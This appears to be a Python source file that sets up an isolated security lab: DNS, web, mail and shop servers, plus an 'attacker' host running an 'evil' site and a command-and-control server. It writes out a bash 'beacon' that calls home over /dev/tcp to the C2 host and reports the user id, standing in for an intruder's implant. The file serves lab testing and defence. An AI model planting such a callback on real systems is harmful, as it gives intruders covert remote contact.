"""Which real servers run on which host of the lab, and how each is started."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

from sekisho_edge.lab import site

READY = b"ready\n"
"""What each program writes once it listens."""

_PROGRAMS = "sekisho_edge.lab.programs"
_BEACON = """#!/bin/bash
# What the intruder of the lab leaves behind: calls home a few times and does nothing else.
host="$1" port="$2"
for turn in 1 2 3; do
  exec 3<>"/dev/tcp/$host/$port" || exit 1
  printf 'GET /gate/tasks?turn=%s HTTP/1.1\\r\\nHost: %s:%s\\r\\n' "$turn" "$host" "$port" >&3
  printf 'User-Agent: sekisho-lab-beacon/1.0\\r\\nX-Agent: %s\\r\\nConnection: close\\r\\n\\r\\n' "$(id -u)" >&3
  timeout 3 cat <&3 >/dev/null
  exec 3>&-
done
echo "beacon done"
"""
_TOOLS = ("id", "uname", "hostname", "getent")


def programs(folder: Path) -> list[tuple[str, str, list[str]]]:
    """(name, host, command line) of every server. Writes what they need into the lab's folder."""
    tools = _tools(folder / "bin")
    return [
        ("dns", "dns", _dns(folder)),
        ("www", "www", [*_python("web"), "www", "80"]),
        ("sns", "sns", [*_python("web"), "sns", "80"]),
        ("evil", "attacker", [*_python("web"), "evil", "80"]),
        ("c2", "attacker", [*_python("web"), "c2", str(site.BEACON_PORT)]),
        ("mail", "mail", [*_python("mail"), site.MAIL_ADDRESS, "25"]),
        ("shop", "server", [*_python("shop"), str(site.SERVER_PORT), str(tools)]),
    ]


def missing() -> list[str]:
    """Programs that the lab needs and this machine lacks."""
    needed = ("ip", "nft", "setpriv", "dnsmasq", "rbash", "timeout", *_TOOLS)
    return [name for name in needed if shutil.which(name) is None and shutil.which(f"/usr/sbin/{name}") is None]


def _python(module):
    return [sys.executable, "-u", "-m", f"{_PROGRAMS}.{module}"]


def _dns(folder):
    """dnsmasq as the Internet's name server; a shell line tells when it is about to serve."""
    options = ["--keep-in-foreground", "--no-resolv", "--no-hosts", "--conf-file=/dev/null", "--user=", "--group="]
    options += ["--local=/example/", "--listen-address=" + site.DNS_ADDRESS, "--bind-interfaces", "--log-facility=-"]
    options += [f"--pid-file={folder / 'dns.pid'}"]
    options += [f"--host-record={name},{address}" for name, address in site.NAMES.items()]
    options += ["--mx-host=lab.example,mail.lab.example,10", "--txt-record=lab.example,v=spf1 mx -all"]
    return ["sh", "-c", 'dnsmasq "$@" & pid=$!; echo ready; trap "kill $pid" TERM; wait $pid', "dns", *options]


def _tools(folder):
    """The only programs that an intruder on the server can reach: readers of harmless facts, and the beacon."""
    folder.mkdir(parents=True)
    for name in _TOOLS:
        if path := shutil.which(name):
            (folder / name).symlink_to(path)
    beacon = folder / "beacon"
    beacon.write_text(_BEACON)
    beacon.chmod(0o755)
    folder.chmod(0o755)
    return folder
